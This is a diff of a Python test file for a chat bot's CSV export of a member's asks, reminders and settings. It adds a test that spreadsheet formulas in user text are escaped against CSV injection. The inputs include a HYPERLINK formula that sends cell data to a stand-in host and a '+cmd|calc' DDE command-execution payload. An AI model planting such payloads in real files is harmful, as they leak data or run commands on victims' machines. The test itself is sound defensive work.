@@ -37,7 +37,7 @@ async def test_export_is_a_complete_parsable_csv(app, clock):
     attachment: Attachment = reply.attachments[0]
     assert attachment.mime == "text/csv" and attachment.filename.endswith(".csv")
     rows = list(csv.DictReader(io.StringIO(attachment.data.decode("utf-8"))))
-    assert [r["type"] for r in rows] == ["attempt", "attempt", "commitment", "goal"]
+    assert [r["type"] for r in rows] == ["attempt", "attempt", "commitment", "goal", "settings"]
     assert rows[0]["ask"] == "asked for a raise" and rows[0]["who"] == "my boss, Jo"
     assert rows[0]["lesson"] == "ask, then wait" and rows[0]["fear"] == "7"
     assert rows[1]["ask"] == "they said yes, finally" and rows[1]["private"] == "yes"
@@ -60,8 +60,33 @@ async def test_export_is_a_complete_parsable_csv(app, clock):
     rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
                                            .decode("utf-8"))))
     (nudge,) = [r for r in rows if r["type"] == "remind"]
-    assert (nudge["due"], nudge["status"]) == ("18:30", "mon,tue,wed,thu,fri")
+    assert (nudge["time"], nudge["days"]) == ("18:30", "mon,tue,wed,thu,fri")
+    assert nudge["due"].startswith(clock.now().date().isoformat()) and not nudge["status"]
+    await run(app, "/timezone Europe/Lisbon")
+    await run(app, "/reminders off")
+    rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
+                                           .decode("utf-8"))))
+    (settings,) = [r for r in rows if r["type"] == "settings"]
+    assert (settings["zone"], settings["reminders"]) == ("Europe/Lisbon", "off")
     assert all("not mine" not in v for r in rows for v in r.values())
+
+
+async def test_the_export_keeps_text_that_would_start_a_formula_as_text(app):
+    """Opened in a spreadsheet, a member's text stays text: a cell that would start a formula
+    gets a leading apostrophe (OWASP's advice for CSV injection); other text is as typed."""
+    await run(app, '/rejected =HYPERLINK("http://x.test/?"&A1,"click") who:"@SUM(1+1)" '
+                   'lesson:"+cmd|calc!A0"')
+    await run(app, "/accepted -2+3 who:my-boss")
+    await run(app, '/pause until:2026-12-20 reason:"=cmd()"')
+    rows = list(csv.DictReader(io.StringIO((await run(app, "/export")).attachments[0].data
+                                           .decode("utf-8"))))
+    first, second = rows[0], rows[1]
+    assert first["ask"] == "'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")"
+    assert (first["who"], first["lesson"]) == ("'@SUM(1+1)", "'+cmd|calc!A0")
+    assert (second["ask"], second["who"]) == ("'-2+3", "my-boss")
+    (pause,) = [r for r in rows if r["type"] == "pause"]
+    assert pause["reason"] == "'=cmd()"
+    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
 
 
 TABLES = {"sqlite": "SELECT name FROM sqlite_master WHERE type = 'table'",
